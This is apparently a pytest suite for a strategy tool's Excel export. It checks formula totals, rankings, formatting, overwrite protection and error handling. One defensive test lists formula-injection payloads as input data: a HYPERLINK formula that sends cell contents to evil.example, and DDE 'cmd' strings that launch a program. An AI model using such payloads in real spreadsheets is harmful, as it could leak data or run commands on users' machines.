"""``export xlsx``: the workbook's formulas give `score`'s totals, and a weight re-ranks."""

from __future__ import annotations

import re
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from digistrat.exchange.cells import TRIGGERS
from digistrat.exchange.xlsx import ExportProblem, export
from digistrat.loader import load
from digistrat.scoring import score
from exchange_helpers import CRITERIA, PUBLISHED, calderdale, evaluate

TODAY = date(2026, 6, 1)
EXAMPLE = Path(__file__).parent.parent.parent / "examples" / "riverside"


def columns(path: Path, sheet: str) -> dict[str, str]:
    """Header → column letter."""
    ws = openpyxl.load_workbook(path)[sheet]
    return {str(c.value): c.column_letter for c in ws[1]}


def matrix_results(path: Path) -> dict[str, tuple[Any, Any]]:
    """id → (total, rank) as a spreadsheet computes them."""
    values = evaluate(path)
    col = columns(path, "Matrix")
    out = {}
    row = 2
    while ("MATRIX", f"{col['ID']}{row}") in values:
        ident = values[("MATRIX", f"{col['ID']}{row}")]
        out[ident] = (
            values[("MATRIX", f"{col['Total']}{row}")],
            values[("MATRIX", f"{col['Rank']}{row}")],
        )
        row += 1
    return out


def score_results(root: Path) -> dict[str, tuple[Any, Any]]:
    ranking = score(load(root), "weighted")
    return {
        r.id: (
            "" if r.total is None else round(r.total, 6),
            "" if r.rank is None else r.rank,
        )
        for r in ranking.rows
    }


def test_the_formulas_give_the_published_calderdale_totals_and_scores_ranking(
    tmp_path: Path,
) -> None:
    root = calderdale(tmp_path / "repo")
    out = export(load(root), tmp_path / "matrix.xlsx", TODAY)
    computed = matrix_results(out)
    assert {i: t for i, (t, _) in computed.items()} == {i: p[4] for i, p in PUBLISHED.items()}
    assert computed == score_results(root)


def test_changing_a_weight_in_the_workbook_re_ranks_as_score_does(tmp_path: Path) -> None:
    root = calderdale(tmp_path / "repo")
    out = export(load(root), tmp_path / "matrix.xlsx", TODAY)
    wb = openpyxl.load_workbook(out)
    assert wb["Criteria"]["B2"].value == "Patient benefits"
    wb["Criteria"]["C2"].value = 10  # patient benefit from 50 to 10: financial benefit decides
    wb.save(out)
    before = score_results(root)
    (tmp_path / "repo" / "strategy.yaml").write_text(
        (tmp_path / "repo" / "strategy.yaml").read_text().replace("weight: 50", "weight: 10")
    )
    computed = matrix_results(out)
    expected = score_results(root)
    assert {i: t for i, (t, _) in computed.items()} == {i: t for i, (t, _) in expected.items()}
    assert before["network-infrastructure"][1] == 3  # tied on 90, third by name
    assert computed["network-infrastructure"][1] == 1 == expected["network-infrastructure"][1]
    assert computed["agile-working"][1] == 2 == expected["agile-working"][1]
    # ties are broken in the workbook by row order, which was score's order before the change
    assert sorted(r for _, r in computed.values()) == list(range(1, 9))


def test_a_lower_is_better_criterion_and_a_missing_score(tmp_path: Path) -> None:
    criteria = CRITERIA.replace(
        "label: Financial benefit", "label: Financial risk\n      direction: lower-is-better"
    )
    root = calderdale(tmp_path / "repo", criteria)
    (root / "initiatives" / "wi-fi.yaml").write_text(
        "name: Wi-Fi\ncategory: improve\nscores:\n  patient: 8\n  staff: 4\n"
    )
    out = export(load(root), tmp_path / "m.xlsx", TODAY)
    computed = matrix_results(out)
    assert computed == score_results(root)
    assert computed["wi-fi"] == ("", "")


def test_the_riverside_example_totals_equal_score(tmp_path: Path) -> None:
    out = export(load(EXAMPLE), tmp_path / "riverside.xlsx", TODAY)
    computed = matrix_results(out)
    assert computed == score_results(EXAMPLE)
    assert len(computed) == len(load(EXAMPLE).initiatives)


def test_the_workbook_is_finished(tmp_path: Path) -> None:
    out = export(load(EXAMPLE), tmp_path / "riverside.xlsx", TODAY)
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == [
        "Read me", "Matrix", "Criteria", "Commitments", "Services", "Risks", "Plan"
    ]  # fmt: skip
    for ws in wb.worksheets[1:]:
        assert ws.freeze_panes is not None, ws.title
        assert len(ws.tables) == 1, ws.title
        assert not ws.merged_cells.ranges, ws.title
        for cell in ws[1]:
            width = ws.column_dimensions[cell.column_letter].width
            assert len(str(cell.value)) < width <= 62, (ws.title, cell.value, width)
    assert wb["Matrix"].freeze_panes == "D2"
    commitments = wb["Commitments"]
    col = {c.value: c.column_letter for c in commitments[1]}
    assert commitments[f"{col['Due']}2"].number_format == "d mmmm yyyy"
    validations = {
        str(dv.sqref).split(":")[0][0]: dv.formula1
        for dv in commitments.data_validations.dataValidation
    }
    assert validations[col["Status"]] == '"on-track,at-risk,off-track,met,missed"'
    rows = {r[0].value: r for r in commitments.iter_rows(min_row=2)}
    percent = rows["change-appointments-online"]  # its measure's unit is %
    assert percent[ord(col["Baseline"]) - 65].number_format == '0.0"%"'
    assert rows["care-at-home"][ord(col["Baseline"]) - 65].number_format == "General"
    services = wb["Services"]
    scol = {c.value: c.column_letter for c in services[1]}
    assert services[f"{scol['Cost per use']}2"].number_format == '"£"#,##0.00'
    matrix = wb["Matrix"]
    mcol = {c.value: c.column_letter for c in matrix[1]}
    assert matrix[f"{mcol['Cost']}2"].number_format == '"£"#,##0'  # £350,000, not £350,000.00
    assert services[f"{scol['Digital take-up']}2"].number_format == '0.0"%"'
    plan = wb["Plan"]
    assert "●" in [c.value for row in plan.iter_rows(min_row=2) for c in row]


def test_an_existing_file_is_never_overwritten_without_force(tmp_path: Path) -> None:
    target = tmp_path / "out.xlsx"
    target.write_bytes(b"keep me")
    with pytest.raises(ExportProblem, match=r"exists already.*--force"):
        export(load(EXAMPLE), target, TODAY)
    assert target.read_bytes() == b"keep me"
    export(load(EXAMPLE), target, TODAY, force=True)
    assert openpyxl.load_workbook(target).sheetnames[0] == "Read me"
    with pytest.raises(ExportProblem, match="is a folder"):
        export(load(EXAMPLE), tmp_path, TODAY)
    with pytest.raises(ExportProblem, match="does not exist"):
        export(load(EXAMPLE), tmp_path / "missing" / "x.xlsx", TODAY)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
OURS = re.compile(r"=IF\((ISNUMBER|COUNT)\(")


def test_hostile_names_never_become_formulas(tmp_path: Path) -> None:
    import sys

    sys.path.insert(0, str(Path(__file__).parent.parent / "hostile"))
    from hostile_cases import poisoned_copy

    root = poisoned_copy(EXAMPLE, tmp_path / "repo", FORMULAS)
    out = export(load(root), tmp_path / "poisoned.xlsx", TODAY)
    wb = openpyxl.load_workbook(out)
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert ws.title == "Matrix" and OURS.match(str(cell.value)), cell.value
                elif isinstance(cell.value, str):
                    seen.append(cell.value)
                    assert not cell.value.startswith(TRIGGERS), (ws.title, cell.coordinate)
    assert "'" + FORMULAS[0] in seen
    for ws in wb.worksheets[1:]:  # table headers match their cells, so Excel opens the file
        for table in ws.tables.values():
            assert [c.value for c in ws[1]][: len(table.tableColumns)] == [
                t.name for t in table.tableColumns
            ]


def test_criteria_with_the_same_label_get_distinct_headers(tmp_path: Path) -> None:
    criteria = CRITERIA.replace("label: Staff benefit", "label: Patient benefits")
    root = calderdale(tmp_path / "repo", criteria)
    out = export(load(root), tmp_path / "m.xlsx", TODAY)
    headers = list(columns(out, "Matrix"))
    assert headers[10:16] == [
        "Patient benefits",
        "Patient benefits points",
        "Patient benefits 2",
        "Patient benefits 2 points",
        "Financial benefit",
        "Financial benefit points",
    ]
    assert matrix_results(out) == score_results(root)


def test_a_strategy_that_cannot_be_read_still_exports_the_rest(tmp_path: Path) -> None:
    root = calderdale(tmp_path / "repo")
    (root / "strategy.yaml").write_text("organisation: [\n")
    out = export(load(root), tmp_path / "m.xlsx", TODAY)
    wb = openpyxl.load_workbook(out)
    assert wb["Matrix"].max_row == 1 + len(PUBLISHED)
    assert "strategy.yaml could not be read" in " ".join(str(c.value) for c in wb["Read me"]["A"])


def test_a_very_long_criterion_label_still_makes_a_valid_table(tmp_path: Path) -> None:
    long = "Benefit " * 37  # 296 characters: allowed for a label, too long for an Excel table
    root = calderdale(tmp_path / "repo", CRITERIA.replace("Staff benefit", long.strip()))
    out = export(load(root), tmp_path / "m.xlsx", TODAY)
    table = openpyxl.load_workbook(out)["Matrix"].tables["Matrix"]
    assert max(len(c.name) for c in table.tableColumns) <= 255
    assert matrix_results(out) == score_results(root)
